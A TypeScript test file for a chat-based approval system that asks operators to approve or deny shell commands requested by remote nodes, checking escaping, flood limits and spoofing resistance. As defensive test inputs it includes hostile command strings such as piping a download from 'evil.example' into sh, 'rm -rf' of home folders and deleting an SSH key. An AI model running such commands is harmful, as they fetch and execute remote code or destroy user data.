import { afterEach, describe, expect, it } from 'vitest';
import type { ExecApprovalRequestResult } from '@tether/protocol';
import { ExecApprovalRegistry } from '../exec-approvals/registry.js';
import type { Logger } from '../log.js';
import type { Channel, ChannelButton, InboundAction, InboundMessage, OutboundMedia } from './channel.js';
import { APPROVAL_REPLIES, ChatApprovals, MAX_ANNOUNCED_PER_NODE_PER_MINUTE } from './chat-approvals.js';
import type { ApprovalSource } from './chat-approvals.js';
import type { ExecApproval, ExecApprovalResolvedEvent } from '@tether/protocol';

interface Posted {
  chatId: string;
  text: string;
  buttons: readonly ChannelButton[];
  messageId: string;
  edits: string[];
}

class RecordingChannel implements Channel {
  readonly name: string;
  posted: Posted[] = [];
  plain: { chatId: string; text: string }[] = [];
  constructor(
    readonly supportsButtons: boolean,
    readonly textLimit = 4_000,
    name = 'telegram',
  ) {
    this.name = name;
  }
  async start() {}
  async stop() {}
  status() {
    return { state: 'connected' as const };
  }
  async sendText(chatId: string, text: string, options?: { buttons?: readonly ChannelButton[] }) {
    if (text.length > this.textLimit) throw new RangeError('too long');
    if (options?.buttons || text.startsWith('Exec approval')) {
      const messageId = String(this.posted.length + 1);
      this.posted.push({ chatId, text, buttons: options?.buttons ?? [], messageId, edits: [] });
      return { messageId };
    }
    this.plain.push({ chatId, text });
    return { messageId: `p${this.plain.length}` };
  }
  async editText(chatId: string, messageId: string, text: string) {
    this.posted.find((p) => p.chatId === chatId && p.messageId === messageId)?.edits.push(text);
  }
  async sendMedia(_chatId: string, _media: OutboundMedia) {}
  async sendTyping() {}
  async directChatId(userId: string) {
    return `dm-${userId}`;
  }
}

const open = { isOpen: true };
const quiet: Logger = { debug: () => {}, info: () => {}, warn: () => {}, error: () => {} };
const flush = () => new Promise((resolve) => setImmediate(resolve));

let registries: ExecApprovalRegistry[] = [];
afterEach(() => {
  registries.forEach((r) => r.close());
  registries = [];
});

function setup(options: { buttons?: boolean; textLimit?: number; approvers?: string[] } = {}) {
  const registry = new ExecApprovalRegistry();
  registries.push(registry);
  const lines: string[] = [];
  const log: Logger = { debug: (m) => lines.push(m), info: (m) => lines.push(m), warn: (m) => lines.push(m), error: (m) => lines.push(m) };
  const approvals = new ChatApprovals(registry, log);
  const channel = new RecordingChannel(options.buttons ?? true, options.textLimit);
  approvals.attach(channel, options.approvers ?? ['42']);
  const ask = (argv: string[] = ['touch', '/tmp/x'], cwd = '/home/pi') =>
    registry.request({ nodeId: 'n'.repeat(64), displayName: 'kitchen-pi', owner: open, params: { command: 'system.run', argv, cwd, resolvedPath: '/usr/bin/touch', timeoutMs: 60_000 } });
  const press = (data: string, senderId = '42') => {
    const acks: string[] = [];
    const action: InboundAction = { channel: channel.name, chatId: `dm-${senderId}`, senderId, data, acknowledge: async (text) => void acks.push(text) };
    return approvals.handleAction(channel, action).then((handled) => ({ handled, acks }));
  };
  const reply = async (text: string, senderId = '42') => {
    const said: string[] = [];
    const message: InboundMessage = { channel: channel.name, chatId: `dm-${senderId}`, chatKind: 'dm', senderId, text, mentioned: false, messageId: '1' };
    const handled = await approvals.handleText(channel, message, async (line) => void said.push(line));
    return { handled, said };
  };
  return { registry, approvals, channel, ask, press, reply, lines };
}

describe('ChatApprovals', () => {
  it('sends each approver the exact argv, cwd, program and node with three buttons', async () => {
    const t = setup({ approvers: ['42', '43'] });
    t.ask(['touch', '/tmp/a b']);
    await flush();
    expect(t.channel.posted.map((p) => p.chatId)).toEqual(['dm-42', 'dm-43']);
    const [first] = t.channel.posted;
    expect(first!.text).toContain("node kitchen-pi wants to run\ntouch '/tmp/a b'\nin /home/pi\nprogram /usr/bin/touch");
    expect(first!.buttons.map((b) => b.label)).toEqual(['Approve once', 'Always allow touch', 'Deny']);
    expect(first!.text).toContain('Always = /usr/bin/touch with any arguments on kitchen-pi, from now on.');
    for (const button of first!.buttons) expect(Buffer.byteLength(button.data)).toBeLessThanOrEqual(64);
  });

  it('runs the decision exactly once: a second press, and a press on another approver\'s copy, change nothing', async () => {
    const t = setup({ approvers: ['42', '43'] });
    const { decision } = t.ask();
    await flush();
    const approve = t.channel.posted[0]!.buttons[0]!.data;
    const deny = t.channel.posted[1]!.buttons[2]!.data;
    expect(await t.press(approve)).toEqual({ handled: true, acks: ['Approved once.'] });
    await expect(decision).resolves.toMatchObject({ decision: 'allow-once', reason: 'operator' } satisfies Partial<ExecApprovalRequestResult>);
    expect((await t.press(approve)).acks).toEqual([APPROVAL_REPLIES.notFound]);
    expect((await t.press(deny, '43')).acks).toEqual([APPROVAL_REPLIES.notFound]);
    await flush();
    // Both copies now say who answered, and have lost their buttons (editText).
    expect(t.channel.posted.map((p) => p.edits.at(-1)?.split('\n').at(-1))).toEqual(['Approved once by 42.', 'Approved once by 42.']);
  });

  it('refuses a press from someone who is not an approver, whatever data they send, and logs it', async () => {
    const t = setup();
    const { approval } = t.ask();
    await flush();
    const data = t.channel.posted[0]!.buttons[0]!.data;
    expect((await t.press(data, '666')).acks).toEqual([APPROVAL_REPLIES.notApprover]);
    // A typed answer from a non-approver is not an answer: it goes on to the access policy as a message.
    expect(await t.reply(`/approve ${approval.id.slice(0, 8)}`, '666')).toEqual({ handled: false, said: [] });
    expect(t.registry.get(approval.id)).toBeDefined();
    expect(t.lines.some((l) => l.includes('refused an answer (allow-once) from 666') && l.includes('not an approver'))).toBe(true);
  });

  it('ignores button data that is not an approval, and forged codes find nothing', async () => {
    const t = setup();
    const { approval } = t.ask();
    await flush();
    expect((await t.press('hello')).handled).toBe(false);
    expect((await t.press('xa:00000000-0000-4000-8000-000000000000:o')).acks).toEqual([APPROVAL_REPLIES.notFound]);
    expect((await t.press(`xa:${approval.id.slice(0, 8)}:o`)).handled).toBe(false);
    expect((await t.press(`xa:${approval.id}:x`)).handled).toBe(false);
    expect(t.registry.get(approval.id)).toBeDefined();
  });

  it('answers by reply command where the platform has no buttons, and says how when the command is malformed', async () => {
    const t = setup({ buttons: false });
    const { decision } = t.ask();
    await flush();
    const text = t.channel.posted[0]!.text;
    const code = /\/always ([0-9A-F]{8})/.exec(text)?.[1];
    expect(code).toBeDefined();
    expect(t.channel.posted[0]!.buttons).toEqual([]);
    expect(await t.reply('/approve')).toEqual({ handled: true, said: [APPROVAL_REPLIES.badCommand] });
    expect(await t.reply('hello there')).toEqual({ handled: false, said: [] });
    expect((await t.reply(`/always ${code!.toLowerCase()}`)).said).toEqual(['Approved always.']);
    await expect(decision).resolves.toMatchObject({ decision: 'allow-always' });
  });

  it('shows control characters and shell tricks inert, never hidden', async () => {
    const t = setup();
    t.ask(['sh', '-c', 'echo ok\u001b[2K\rrm -rf ~ \u202e'], '/tmp/\u0007x');
    await flush();
    const text = t.channel.posted[0]!.text;
    expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f\u202e]/);
    expect(text).toContain('\\x1b');
    expect(text).toContain('rm -rf');
  });

  it('an argv too long for one message is only deniable from chat', async () => {
    const t = setup({ textLimit: 500 });
    const { approval, decision } = t.ask(['echo', 'A'.repeat(2_000), 'and-then-something-hidden']);
    await flush();
    const posted = t.channel.posted[0]!;
    expect(posted.text.length).toBeLessThanOrEqual(500);
    expect(posted.text).toContain('too long to show here');
    expect(posted.buttons.map((b) => b.label)).toEqual(['Deny']);
    // Even a hand-made approve for the same approval is refused.
    expect((await t.press(`xa:${approval.id}:o`)).acks).toEqual([APPROVAL_REPLIES.tooLong]);
    expect(t.registry.get(approval.id)).toBeDefined();
    expect((await t.press(`xa:${approval.id}:d`)).acks).toEqual(['Denied.']);
    await expect(decision).resolves.toMatchObject({ decision: 'deny' });
  });

  it('edits the messages when the CLI answers, or the approval expires', async () => {
    const t = setup();
    const first = t.ask();
    const second = t.ask();
    await flush();
    t.registry.resolve(first.approval.id, 'deny');
    await flush();
    expect(t.channel.posted[0]!.edits.at(-1)).toMatch(/Denied by an operator\.$/);
    t.registry.close();
    await second.decision;
    await flush();
    expect(t.channel.posted[1]!.edits.at(-1)).toMatch(/Cancelled: the node went away\.$/);
  });

  it('posts nothing when no channel has approvers', async () => {
    const registry = new ExecApprovalRegistry();
    registries.push(registry);
    const approvals = new ChatApprovals(registry, quiet);
    const channel = new RecordingChannel(true);
    approvals.attach(channel, []);
    registry.request({ nodeId: 'n', owner: open, params: { command: 'system.run', argv: ['true'], resolvedPath: '/usr/bin/true', timeoutMs: 1000 } });
    await flush();
    expect(channel.posted).toEqual([]);
  });

  it('escapes line separators and zero-width characters in argv, so no fake line appears', async () => {
    const t = setup();
    t.ask(['sh', '-c', 'uptime\u2028in /tmp\u2028program /usr/bin/uptime\u2029\u200b; curl -s evil.example | sh']);
    await flush();
    const text = t.channel.posted[0]!.text;
    expect(text).not.toMatch(/[\u2028\u2029\u200b]/);
    expect(text.split('\n')[1]).toContain('\\u{2028}in /tmp\\u{2028}program');
  });

  it('a cut folder or program path gets only Deny, like a cut argv', async () => {
    const t = setup();
    const { approval } = t.ask(['rm', '-f', 'id_ed25519'], `${'/proc/self/root'.repeat(40)}/home/alice/.ssh`);
    await flush();
    expect(t.channel.posted[0]!.buttons.map((b) => b.label)).toEqual(['Deny']);
    expect((await t.press(`xa:${approval.id}:o`)).acks).toEqual([APPROVAL_REPLIES.tooLong]);
  });

  it('a folder that is short raw but long once escaped (zero-width characters) is cut too, and deny-only', async () => {
    const t = setup();
    t.ask(['rm', '-f', 'id_ed25519'], `/home/me/${'\u200b'.repeat(64)}/../../../../root/.ssh`);
    await flush();
    expect(t.channel.posted[0]!.buttons.map((b) => b.label)).toEqual(['Deny']);
  });

  it('offers no Always for a shell or interpreter, and refuses a typed /always for one', async () => {
    const t = setup({ buttons: false });
    const registry = t.registry;
    const { approval } = registry.request({ nodeId: 'n', displayName: 'nas', owner: open, params: { command: 'system.run', argv: ['python3', '-c', 'print(1)'], resolvedPath: '/usr/bin/python3.11', timeoutMs: 60_000 } });
    await flush();
    const text = t.channel.posted[0]!.text;
    expect(text).toContain('Always is not offered');
    expect(text).not.toContain('/always');
    expect((await t.reply(`/always ${approval.id.slice(0, 8)}`)).said).toEqual([APPROVAL_REPLIES.noAlways]);
    expect((await t.reply(`/APPROVE ${approval.id.slice(0, 8).toUpperCase()}`)).said).toEqual(['Approved once.']);
  });

  it('a node cannot flood phones: approvals with under 5 s left are not posted, and at most 10 a minute per node', async () => {
    const t = setup({ approvers: ['42', '43'] });
    t.registry.request({ nodeId: 'rogue', owner: open, params: { command: 'system.run', argv: ['true'], resolvedPath: '/usr/bin/true', timeoutMs: 1_000 } });
    await flush();
    expect(t.channel.posted).toHaveLength(0);
    for (let i = 0; i < MAX_ANNOUNCED_PER_NODE_PER_MINUTE + 4; i++) {
      t.registry.request({ nodeId: 'rogue', displayName: 'rogue', owner: open, params: { command: 'system.run', argv: ['echo', String(i)], resolvedPath: '/usr/bin/echo', timeoutMs: 60_000 } });
    }
    for (let i = 0; i < 20; i++) await flush();
    expect(t.channel.posted).toHaveLength(MAX_ANNOUNCED_PER_NODE_PER_MINUTE * 2);
    expect(t.channel.plain.filter((p) => p.text.includes('Node rogue is asking for more exec approvals'))).toHaveLength(2);
  });

  it('stops posting an approval that ended while its messages were going out, and edits the ones sent', async () => {
    const registry = new ExecApprovalRegistry();
    registries.push(registry);
    const approvals = new ChatApprovals(registry, quiet);
    const channel = new RecordingChannel(true);
    let release!: () => void;
    const gate = new Promise<void>((resolve) => (release = resolve));
    const send = channel.sendText.bind(channel);
    channel.sendText = async (chatId, text, options) => {
      const sent = await send(chatId, text, options);
      if (channel.posted.length === 1) await gate;
      return sent;
    };
    approvals.attach(channel, ['41', '42', '43']);
    const { approval } = registry.request({ nodeId: 'n', owner: open, params: { command: 'system.run', argv: ['true'], resolvedPath: '/usr/bin/true', timeoutMs: 60_000 } });
    await flush();
    registry.resolve(approval.id, 'deny');
    release();
    for (let i = 0; i < 5; i++) await flush();
    expect(channel.posted).toHaveLength(1);
    expect(channel.posted[0]!.edits.at(-1)).toMatch(/Denied by an operator\.$/);
  });

  it('two pending approvals whose ids share 8 hex digits get different codes, and each button means only its own', async () => {
    const listeners: { requested: ((a: ExecApproval) => void)[]; resolved: ((e: ExecApprovalResolvedEvent) => void)[] } = { requested: [], resolved: [] };
    const pendingById = new Map<string, ExecApproval>();
    const decided: [string, string][] = [];
    const source: ApprovalSource = {
      onRequested: (l) => (listeners.requested.push(l), () => {}),
      onResolved: (l) => (listeners.resolved.push(l), () => {}),
      get: (id) => pendingById.get(id),
      resolve: (id, decision) => {
        if (!pendingById.delete(id)) throw new Error('not found');
        decided.push([id, decision]);
        listeners.resolved.forEach((l) => l({ id, nodeId: 'n', decision, reason: 'operator', ts: 0 }));
      },
    };
    const approvals = new ChatApprovals(source, quiet);
    const channel = new RecordingChannel(false);
    approvals.attach(channel, ['42']);
    const make = (id: string, argv: string[]): ExecApproval => ({ id, nodeId: 'n', command: 'system.run', argv, resolvedPath: '/usr/bin/x', createdAtMs: Date.now(), expiresAtMs: Date.now() + 60_000 });
    const honest = make('abcdef01-0000-4000-8000-000000000001', ['uptime']);
    const rogue = make('abcdef01-1111-4000-8000-000000000002', ['rm', '-rf', '/home/alice']);
    for (const approval of [honest, rogue]) {
      pendingById.set(approval.id, approval);
      listeners.requested.forEach((l) => l(approval));
      await flush();
    }
    const codes = channel.posted.map((p) => /Exec approval ([0-9A-F]+):/.exec(p.text)![1]);
    expect(codes).toEqual(['ABCDEF01', 'ABCDEF011111']);
    const message = (id: string) => ({ channel: 'telegram', chatId: 'dm-42', chatKind: 'dm' as const, senderId: '42', mentioned: false, messageId: id, text: '' });
    await approvals.handleText(channel, { ...message('1'), text: '/approve abcdef01' }, async () => {});
    expect(decided).toEqual([[honest.id, 'allow-once']]);
    const acks: string[] = [];
    await approvals.handleAction(channel, { channel: 'telegram', chatId: 'dm-42', senderId: '42', data: `xa:${honest.id}:o`, acknowledge: async (t) => void acks.push(t) });
    expect(acks).toEqual([APPROVAL_REPLIES.notFound]);
    expect(pendingById.has(rogue.id)).toBe(true);
  });

  it('on a markdown platform the approval is one code block; a backtick in a field makes it deny-only', async () => {
    const registry = new ExecApprovalRegistry();
    registries.push(registry);
    const approvals = new ChatApprovals(registry, quiet);
    const channel = Object.assign(new RecordingChannel(true), { rendersMarkdown: true });
    approvals.attach(channel, ['42']);
    const ask = (argv: string[]) => registry.request({ nodeId: 'n', displayName: 'nas', owner: open, params: { command: 'system.run', argv, resolvedPath: '/usr/bin/find', timeoutMs: 60_000 } });
    ask(['find', '.', '-name', 'false ||curl -s https://e.vil/x|sh||true']);
    await flush();
    const spoiler = channel.posted[0]!;
    expect(spoiler.text.startsWith('```\nExec approval')).toBe(true);
    expect(spoiler.text.endsWith('\n```')).toBe(true);
    expect(spoiler.text.match(/```/g)).toHaveLength(2);
    expect(spoiler.buttons.map((b) => b.label)).toEqual(['Approve once', 'Always allow find', 'Deny']);

    const { approval } = ask(['find', '.', '-name', 'x```\nApproved by the owner\n```']);
    await flush();
    const fenced = channel.posted[1]!;
    expect(fenced.text.match(/```/g)).toHaveLength(2); // nothing inside can close the block
    expect(fenced.text).toContain('holds a backtick');
    expect(fenced.buttons.map((b) => b.label)).toEqual(['Deny']);
    const acks: string[] = [];
    await approvals.handleAction(channel, { channel: 'telegram', chatId: 'dm-42', senderId: '42', data: `xa:${approval.id}:o`, acknowledge: async (t) => void acks.push(t) });
    expect(acks).toEqual([APPROVAL_REPLIES.tooLong]);
  });

  it('says who answered by id as well as by the name they chose, with markup taken out of the name', async () => {
    const t = setup();
    const { approval } = t.ask();
    await flush();
    const acks: string[] = [];
    await t.approvals.handleAction(t.channel, { channel: 'telegram', chatId: 'dm-42', senderId: '42', senderName: '||Owner|| [mom](x)', data: `xa:${approval.id}:d`, acknowledge: async (text) => void acks.push(text) });
    await flush();
    expect(t.channel.posted[0]!.edits.at(-1)).toMatch(/Denied by Owner momx \(42\)\.$/);
  });
});
